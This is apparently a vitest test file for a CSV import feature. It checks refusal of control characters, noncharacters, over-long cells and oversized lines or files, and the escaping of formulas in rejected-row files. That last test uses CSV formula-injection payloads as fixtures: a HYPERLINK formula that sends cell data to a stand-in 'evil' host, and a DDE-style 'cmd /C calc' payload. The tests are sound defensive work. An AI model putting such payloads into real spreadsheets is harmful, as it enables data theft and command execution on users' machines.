/**
 * CSV import at its boundary: hostile cells (control characters, noncharacters, over-long text)
 * are refused naming line and field, and every other text lands byte for byte; a record longer
 * than IMPORT_MAX_LINE_BYTES and a file larger than IMPORT_MAX_BYTES are refused fast, naming
 * the line, without reading them whole; rejected-row files cannot inject formulas.
 */
import { closeSync, mkdtempSync, openSync, readFileSync, rmSync, writeFileSync, writeSync } from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { Readable } from 'node:stream'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { parse } from 'csv-parse/sync'
import { importCsv } from '@/server/import'
import { csvField } from '@/lib/import/csv'
import { createTestRuntime, INGEST_SECRET, nowIso, type TestRuntime } from '../helpers/runtime'
import { handleImport } from '../helpers/api'
import { checkContractClaims } from '../helpers/contract'

checkContractClaims('import-boundary.test.ts')

let t: TestRuntime
let dir: string

beforeAll(async () => {
  t = await createTestRuntime({ workers: false })
  dir = mkdtempSync(path.join(os.tmpdir(), 'sp-import-boundary-'))
})
afterAll(async () => {
  await t?.cleanup()
  if (dir) rmSync(dir, { recursive: true, force: true })
})

const file = (name: string, text: string | Buffer) => {
  const p = path.join(dir, name)
  writeFileSync(p, text)
  return p
}

async function q<T = Record<string, unknown>>(sql: string, params: Record<string, unknown> = {}): Promise<T[]> {
  const rs = await t.rt.clickhouse.interactive.query({ query: sql, query_params: params, format: 'JSONEachRow' })
  return rs.json<T>()
}
const count = async (table: string, where: string, params: Record<string, unknown>) =>
  Number((await q<{ n: string }>(`SELECT count() AS n FROM ${table} WHERE ${where}`, params))[0].n)
const hex = (s: string) => Buffer.from(s, 'utf8').toString('hex').toUpperCase()

/** Text kept exactly (quoted in the file where CSV needs it). */
const KEPT = ['tab\there', 'line\nbreak', 'crlf\r\ninside', 'back\\slash', '\\N', `quotes "double" 'single'`, 'emoji \u{1f600}', 'c1 \u0085', '=1+2 stored as sent', 'é'.repeat(64)]
/** Text refused, and the reason's words. */
const REFUSED: [string, string][] = [
  ['nul \0 byte', 'contains a control character (U+0000)'],
  ['bell \x07', 'contains a control character (U+0007)'],
  ['del \x7f', 'contains a control character (U+007F)'],
  ['\ufffe', 'contains a Unicode noncharacter (U+FFFE)'],
  ['\uffff', 'contains a Unicode noncharacter (U+FFFF)'],
  ['x'.repeat(65), 'must be at most 64 characters'],
]

describe('hostile cells', () => {
  const ts = nowIso()
  const customers = (tag: string, cells: string[]) =>
    'customer_id,ts,segment,attributes.note\n' + cells.map((v, i) => `${tag}-${i},${ts},${csvField(v)},${csvField(v.slice(0, 64) || 'n')}`).join('\n') + '\n'

  it('strict: one refused cell refuses the file, naming line and field; nothing lands', async () => {
    for (const [i, [bad, reason]] of REFUSED.entries()) {
      const tag = `HS${i}`
      const s = await importCsv(t.rt, { type: 'customer', input: file(`hs${i}.csv`, customers(tag, ['fine', bad, 'fine too'])) })
      expect(s.ok).toBe(false)
      expect(s.errors.map((e) => e.line)).toEqual([3])
      expect(s.errors[0].reason).toContain(`segment: ${reason}`)
      expect(await count('customers', 'startsWith(customer_id, {p:String})', { p: `${tag}-` })).toBe(0)
    }
  })

  it('skip-bad: every other text lands byte for byte; the refused rows land nowhere', async () => {
    const cells = [...KEPT, ...REFUSED.map(([v]) => v)]
    const s = await importCsv(t.rt, { type: 'customer', input: file('hk.csv', customers('HK', cells)), mode: 'skip-bad' })
    expect(s).toMatchObject({ ok: true, landed: KEPT.length, rejected: REFUSED.length })
    const rows = await q<{ customer_id: string; s: string; a: string }>(
      "SELECT customer_id, hex(segment) AS s, hex(attributes['note']) AS a FROM customers WHERE startsWith(customer_id, 'HK-') ORDER BY customer_id",
    )
    expect(rows.length).toBe(KEPT.length)
    for (const r of rows) {
      const v = cells[Number(r.customer_id.slice(3))]
      expect(KEPT).toContain(v)
      expect(r.s).toBe(hex(v))
      expect(r.a).toBe(hex(v.slice(0, 64)))
    }
  })

  it('the fast validators (returns: string and byte paths) refuse the same cells with the same reasons', async () => {
    for (const [i, [bad, reason]] of REFUSED.entries()) {
      if (bad.length > 64) continue
      // No quotes and ASCII where the cell is: the byte path's file; otherwise the string path's.
      const text = `ts,sku,location,qty,reason,condition\n${nowIso()},SKU-1,HR${i},1,broken,damaged\n${nowIso()},SKU-1,HR${i},1,${bad},damaged\n`
      for (const bytes of [true, false]) {
        const s = await importCsv(t.rt, { type: 'return', input: file(`hr${i}.csv`, text), bytes })
        expect(s.ok).toBe(false)
        expect(s.errors).toMatchObject([{ line: 3, reason: `reason: ${reason}` }])
        expect(await count('raw_returns', 'location = {l:String}', { l: `HR${i}` })).toBe(0)
      }
    }
  })

  it('a lone surrogate cannot be in a UTF-8 file: its bytes (CESU-8) refuse the file as not UTF-8', async () => {
    const body = Buffer.concat([Buffer.from(`customer_id,ts,segment\nHU-1,${nowIso()},a`), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from('b\n')])
    const s = await importCsv(t.rt, { type: 'customer', input: file('hu.csv', body) })
    expect(s.ok).toBe(false)
    expect(s.error).toContain('not valid UTF-8')
    expect(await count('customers', 'customer_id = {c:String}', { c: 'HU-1' })).toBe(0)
  })
})

describe('size limits', () => {
  /** A sales file whose header (at 1) or line 3 (at 3) is `bytes` long (one cell of x's), written without holding it in memory. */
  function longLineFile(name: string, at: 1 | 3, bytes: number, withIds: boolean): string {
    const p = path.join(dir, name)
    const fd = openSync(p, 'w')
    const header = `${withIds ? 'event_id,' : ''}ts,sku,location,channel,qty,unit_price\n`
    const good = (i: number) => `${withIds ? `LL-${name}-${i},` : ''}${nowIso()},SKU-1,LL-${name},store,1,2\n`
    if (at === 1) writeSync(fd, header.slice(0, -1))
    else writeSync(fd, header + good(0) + `${withIds ? `LL-${name}-x,` : ''}${nowIso()},`)
    const piece = Buffer.alloc(1 << 20, 'x')
    for (let left = bytes; left > 0; left -= piece.length) writeSync(fd, piece, 0, Math.min(left, piece.length))
    writeSync(fd, `,S1,store,1,2\n${good(1)}`)
    closeSync(fd)
    return p
  }

  it('a 60 MB line is refused in seconds, naming its line, without reading it whole; nothing lands', async () => {
    const cases: [string, 1 | 3, boolean, 'strict' | 'skip-bad'][] = [
      ['ll-header.csv', 1, false, 'strict'],
      ['ll-bytes.csv', 3, false, 'strict'], // the byte path (ASCII, no quotes, no event_id)
      ['ll-string.csv', 3, true, 'strict'], // the string path
      ['ll-skip.csv', 3, true, 'skip-bad'],
    ]
    for (const [name, at, withIds, mode] of cases) {
      const p = longLineFile(name, at, 60 * 1024 * 1024, withIds)
      global.gc?.()
      const rss0 = process.memoryUsage().rss
      let peak = rss0
      const sample = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 5)
      const t0 = performance.now()
      const s = await importCsv(t.rt, { type: 'sale', input: p, mode, chunkRows: 1 })
      const ms = performance.now() - t0
      clearInterval(sample)
      peak = Math.max(peak, process.memoryUsage().rss)
      rmSync(p)
      expect(s.ok, name).toBe(false)
      expect(s.error, name).toContain(`line ${at} is longer than 1048576 bytes`)
      expect(ms, name).toBeLessThan(5_000)
      expect(peak - rss0, name).toBeLessThan(48 * 1024 * 1024)
      if (mode === 'strict') expect(await count('raw_sales', 'location = {l:String}', { l: `LL-${name}` })).toBe(0)
    }
  })

  it('the line limit is IMPORT_MAX_LINE_BYTES, counted in bytes; a line of exactly the limit passes', async () => {
    const row = (segment: string) => `customer_id,ts,segment\nLB-${segment.length},${nowIso()},${segment}\n`
    const lineOf = (segment: string) => Buffer.byteLength(`LB-${segment.length},${nowIso()},${segment}`)
    const fits = 'é'.repeat(30)
    const max = lineOf(fits)
    expect((await importCsv(t.rt, { type: 'customer', input: file('lb1.csv', row(fits)), maxLineBytes: max })).ok).toBe(true)
    const over = await importCsv(t.rt, { type: 'customer', input: file('lb2.csv', row(fits + 'x')), maxLineBytes: max })
    expect(over.error).toContain(`line 2 is longer than ${max} bytes`)
  })

  it('a file larger than IMPORT_MAX_BYTES is refused: a file, a stream, and an upload that says its length (413)', async () => {
    const text = `ts,sku,location,channel,qty,unit_price\n${Array.from({ length: 200 }, () => `${nowIso()},SKU-1,MB1,store,1,2`).join('\n')}\n`
    const p = file('mb.csv', text)
    for (const input of [p, Readable.from([Buffer.from(text)])]) {
      const s = await importCsv(t.rt, { type: 'sale', input, maxBytes: 4096 })
      expect(s.ok).toBe(false)
      expect(s.error).toContain('larger than 4096 bytes (IMPORT_MAX_BYTES)')
    }
    const rt = { ...t.rt, config: { ...t.rt.config, IMPORT_MAX_BYTES: 4096 } }
    const req = (headers: Record<string, string>) =>
      new Request('http://test.local/api/v1/imports?type=sale', { method: 'POST', headers: { authorization: `Bearer ${INGEST_SECRET}`, 'content-type': 'text/csv', ...headers }, body: text })
    expect((await handleImport(rt, req({ 'content-length': String(text.length) }))).status).toBe(413)
    const streamed = await handleImport(rt, req({}))
    expect(streamed.status).toBe(400)
    expect((await streamed.json()).error).toContain('IMPORT_MAX_BYTES')
    expect(await count('raw_sales', 'location = {l:String}', { l: 'MB1' })).toBe(0)
  })
})

describe('rejected-row files', () => {
  it('neutralise formulas (=, +, -, @, tab, CR leading a cell); a negative number stays a number', async () => {
    const ts = nowIso()
    const text = [
      'ts,sku,location,channel,qty,unit_price',
      `${ts},SKU-1,RJ1,store,1,2`,
      `=HYPERLINK("http://evil/?"&A1),SKU-1,RJ1,store,1,2`,
      `@SUM(1+1)*cmd|' /C calc'!A0,SKU-1,RJ1,store,1,2`,
      `+1,SKU-1,RJ1,store,1,2`,
      `-2+3,SKU-1,RJ1,store,1,2`,
      `-5,SKU-1,RJ1,store,-5,2`,
    ].join('\n')
    const rejectsPath = path.join(dir, 'rj.rejects.csv')
    const s = await importCsv(t.rt, { type: 'sale', input: file('rj.csv', text), mode: 'skip-bad', rejectsPath })
    expect(s).toMatchObject({ ok: true, landed: 1, rejected: 5 })
    const rows = parse(readFileSync(rejectsPath)) as string[][]
    expect(rows[0]).toEqual(['line', 'reason', 'row'])
    expect(rows.slice(1).map((r) => [r[0], r[2]])).toEqual([
      ['3', `'=HYPERLINK("http://evil/?"&A1),SKU-1,RJ1,store,1,2`],
      ['4', `'@SUM(1+1)*cmd|' /C calc'!A0,SKU-1,RJ1,store,1,2`],
      ['5', `'+1,SKU-1,RJ1,store,1,2`],
      ['6', `'-2+3,SKU-1,RJ1,store,1,2`],
      ['7', `'-5,SKU-1,RJ1,store,-5,2`],
    ])
    for (const r of rows.slice(1)) expect(r[1]).toMatch(/^(ts|qty): /)
  })
})
